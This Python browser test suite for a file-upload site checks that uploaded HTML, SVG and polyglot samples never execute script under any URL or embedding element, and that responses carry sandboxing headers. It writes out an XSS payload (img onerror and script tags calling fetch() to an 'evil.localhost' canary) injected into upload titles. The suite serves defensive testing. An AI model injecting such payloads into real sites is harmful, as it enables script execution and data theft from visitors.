"""Nothing that somebody uploads runs in a visitor's browser, whichever address and element it is opened by."""

from __future__ import annotations

import contextlib
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import Error, Page

from tests.e2e.hostile_samples import samples
from tests.e2e.page_kit import Visits, log_in
from tests.support.screen import wait_for
from tests.support.server import Server

pytestmark = pytest.mark.browser

EVERYTHING = "png,jpeg,gif,webp,avif,bmp,mp4,webm,tiff,heic,text,pdf,zip"
NAMED = '<img src=x onerror="fetch(`{canary}/name`)"><script>fetch(`{canary}/name`)</script>'


class Elsewhere:
    """Another site: it hears of every script that ran, and has pages of its own that load ours."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        self.pages: dict[str, bytes] = {}
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                body = outer.pages.get(self.path)
                if body is None and self.path != "/favicon.ico":
                    outer.heard.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/html" if body else "text/plain")
                self.send_header("Content-Length", str(len(body or b"")))
                self.end_headers()
                self.wfile.write(body or b"")

            def log_message(self, *_: Any) -> None:
                """Nothing: what was heard is kept."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://evil.localhost:{self._server.server_port}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        """Stop answering."""
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    """Another site for one test."""
    made = Elsewhere()
    yield made
    made.close()


def uploaded(server: Server, canary: str) -> dict[str, dict[str, Any]]:
    """The samples as drops, by their names; what was refused is not among them."""
    found = {}
    hostile = NAMED.format(canary=canary)
    for name, data in samples(canary).items():
        fields = {"title": hostile, "description": hostile}
        answer = server.alice.post("/api/v1/uploads", files={"file": (name, data, "text/html")}, data=fields)
        if answer.status_code == 201:
            found[name] = answer.json()
        else:
            assert 400 <= answer.status_code < 500, (name, answer.text)
    for language in ("html", "javascript", ""):
        text = samples(canary)["page.html"].decode()
        answer = server.alice.post("/api/v1/pastes", json={"content": text, "language": language, "title": hostile})
        assert answer.status_code == 201, answer.text
        found[f"paste {language}"] = answer.json()
    return found


def addresses(server: Server, drop: dict[str, Any], album: str) -> list[str]:
    """Every address under which a drop's bytes, or a page of it, can be asked for."""
    slug, number, ext = drop["slug"], drop["id"], drop["direct_url"].rpartition(".")[2]
    link = server.alice.post(f"/api/v1/uploads/{number}/share", json={}).json()["token"]
    forms = [
        f"/{slug}",
        f"/{slug}.{ext}",
        f"/{slug}.html",
        f"/{slug}.svg",
        f"/{slug}.{ext}?inline=1",
        f"/{slug}.{ext}?raw",
    ]
    forms += [f"/{slug}.{ext}?download=0", f"/i/{number}", f"/i/{number}?download=true", f"/i/{number}?size=large"]
    forms += [f"/u/alice/{drop['filename']}", f"/embed/{number}", f"/info/{number}", drop["deletion_url"]]
    forms += [f"/l/{link}", f"/l/{link}/file.{ext}", f"/a/{album}/i/{number}"]
    return [form if form.startswith("http") else server.url + form for form in forms]


def visit(page: Page, url: str) -> None:
    """Open an address and let it do what it can. A download is no page."""
    with contextlib.suppress(Error):
        page.goto(url, wait_until="load", timeout=10_000)
    with contextlib.suppress(Error):
        page.wait_for_timeout(10)


def framing(urls: list[str]) -> bytes:
    """A page elsewhere that loads addresses by every element that could run something."""
    return "".join(
        f'<iframe src="{url}"></iframe><object data="{url}"></object><embed src="{url}"><img src="{url}">'
        f'<script src="{url}"></script><script type="module" src="{url}"></script>'
        f'<link rel="stylesheet" href="{url}"><video src="{url}"></video>'
        for url in urls
    ).encode()


def test_the_samples_run_where_nobody_minds(elsewhere: Elsewhere, visits: Visits) -> None:
    page = visits.open()
    told = samples(elsewhere.url)
    for name in ("page.html", "no-doctype.html"):
        elsewhere.pages["/sample"] = told[name]
        visit(page, f"{elsewhere.url}/sample")
        wait_for(lambda: {path.partition("?")[0] for path in elsewhere.heard} >= {"/fetch", "/image"}, what=name)
        elsewhere.heard.clear()
    # The polyglot is a script for whoever takes it for one.
    elsewhere.pages["/polyglot"] = told["gif-and-script.gif"]
    elsewhere.pages["/page"] = f'<script src="{elsewhere.url}/polyglot"></script>'.encode()
    visit(page, f"{elsewhere.url}/page")
    wait_for(lambda: elsewhere.heard, what="the polyglot")
    visits.complaints.clear()


@pytest.mark.timeout(600)
def test_no_upload_runs_a_script_under_any_address(
    make_server: Callable[..., Server],
    elsewhere: Elsewhere,
    visits: Visits,
    record_property: Callable[[str, object], None],
) -> None:
    server = make_server(BULLETDROP_ACCEPTED_TYPES=EVERYTHING, BULLETDROP_MIN_FREE_DISK="0")
    drops = uploaded(server, elsewhere.url)
    assert set(drops) >= {"page.html", "drawing.svg", "xhtml.xml", "paper.pdf", "bundle.zip", "jpeg-and-zip.jpg"}
    album = server.alice.post("/api/v1/albums", json={"title": "hostile"}).json()
    ids = [drop["id"] for drop in drops.values()]
    server.alice.post(f"/api/v1/albums/{album['id']}/items", json={"ids": ids}).raise_for_status()
    forms = {name: addresses(server, drop, album["slug"]) for name, drop in drops.items()}
    for url in (url for urls in forms.values() for url in urls):
        # Each is an address at which there is something, but for endings that are not the bytes' own.
        status = server.anonymous.get(url).status_code
        assert status == 200 or url.endswith((".html", ".svg", "size=large")) or "/embed/" in url, (url, status)
    opened = 0
    for signed_in in (False, True):
        page = visits.open()
        if signed_in:
            # Her own gallery is what a script of a stranger's would be after.
            log_in(page, server)
        for url in (f"{server.url}/", f"{server.url}/a/{album['slug']}"):
            visit(page, url)
        for name, urls in forms.items():
            for url in urls if not signed_in else urls[:2]:
                visit(page, url)
                opened += 1
                assert elsewhere.heard == [], (name, url)
        for number, (name, urls) in enumerate(forms.items() if signed_in else ()):
            elsewhere.pages[f"/frames{number}"] = framing(urls)
            visit(page, f"{elsewhere.url}/frames{number}")
            page.wait_for_timeout(200)
            opened += 8 * len(urls)
            assert elsewhere.heard == [], (name, "in a page elsewhere")
    record_property("samples taken", len(drops))
    record_property("openings", opened)
    # What a policy stopped is complained about: that is what it is for.
    visits.complaints.clear()


def test_every_answer_with_bytes_says_that_nothing_in_it_may_run(make_server: Callable[..., Server]) -> None:
    server = make_server(BULLETDROP_ACCEPTED_TYPES=EVERYTHING, BULLETDROP_MIN_FREE_DISK="0")
    safe = ("text/plain; charset=utf-8", "image/", "video/", "application/pdf", "application/zip")
    for name, drop in uploaded(server, "http://evil.localhost").items():
        ext = drop["direct_url"].rpartition(".")[2]
        for path in (f"/{drop['slug']}.{ext}", f"/i/{drop['id']}", f"/u/alice/{drop['filename']}"):
            answer = server.anonymous.get(path)
            headers = answer.headers
            assert headers["x-content-type-options"] == "nosniff", name
            assert headers["content-security-policy"].startswith("sandbox; default-src 'none'"), name
            assert headers["content-type"].startswith(safe), (name, headers["content-type"])
            assert "svg" not in headers["content-type"]
            if not headers["content-type"].startswith(("image/", "video/", "text/plain")):
                assert headers["content-disposition"].startswith("attachment"), name


def test_the_placeholder_for_hotlinks_is_drawn_though_it_is_a_refusal(
    server: Server, elsewhere: Elsewhere, visits: Visits
) -> None:
    from tests.web.test_hotlinks import choose

    made = server.alice.post("/api/v1/uploads", files={"file": ("a.png", samples("")["png-and-page.png"])}).json()
    choose(server, "alice", "own")
    picture = f"{server.url}/{made['slug']}.png"
    elsewhere.pages["/forum"] = f'<img src="{picture}">'.encode()
    page = visits.open()
    answers = []
    page.on("response", lambda answer: answers.append((answer.url, answer.status)))
    page.goto(f"{elsewhere.url}/forum")
    size = page.locator("img").evaluate("it => [it.complete, it.naturalWidth, it.naturalHeight]")
    assert (picture, 403) in answers
    assert size == [True, 480, 320]
    # In a page of our own it is the picture.
    page.goto(f"{server.url}/{made['slug']}")
    assert page.locator(".stage img").evaluate("it => [it.naturalWidth, it.naturalHeight]") == [24, 18]
